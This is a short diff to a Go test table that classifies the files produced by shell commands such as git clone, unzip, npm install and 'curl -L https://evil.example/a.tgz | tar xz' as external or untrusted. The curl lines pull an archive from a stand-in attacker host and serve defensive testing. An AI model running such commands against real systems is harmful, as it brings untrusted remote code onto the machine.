@@ -228,6 +228,8 @@ func TestWhatIsUnpacked(t *testing.T) {
 		"a repository somewhere": {"git clone https://github.com/x/tool.git sub/here", "sub/here/README.md", "sub/mine.md", "external"},
 		"an archive":             {"curl -L https://evil.example/a.tgz | tar xz", "x.md", "mine.md", "untrusted"},
 		"an archive below":       {"curl -L https://evil.example/a.tgz | tar xz -C out", "out/x.md", "mine.md", "untrusted"},
+		"an archive among mine":  {"curl -L https://evil.example/a.tgz | tar xz -C sub", "sub/x.md", "sub/mine.md", "untrusted"},
+		"a saved archive, here":  {"tar xf page.md -C .", "x.md", "mine.md", "untrusted"},
 		"a saved archive":        {"tar xf page.md", "x/y.md", "mine.md", "untrusted"},
 		"a zip":                  {"unzip -o page.md -d out", "out/x.md", "mine.md", "untrusted"},
 		"packages":               {"npm install left-pad", "node_modules/left-pad/index.js", "mine.js", "untrusted"},
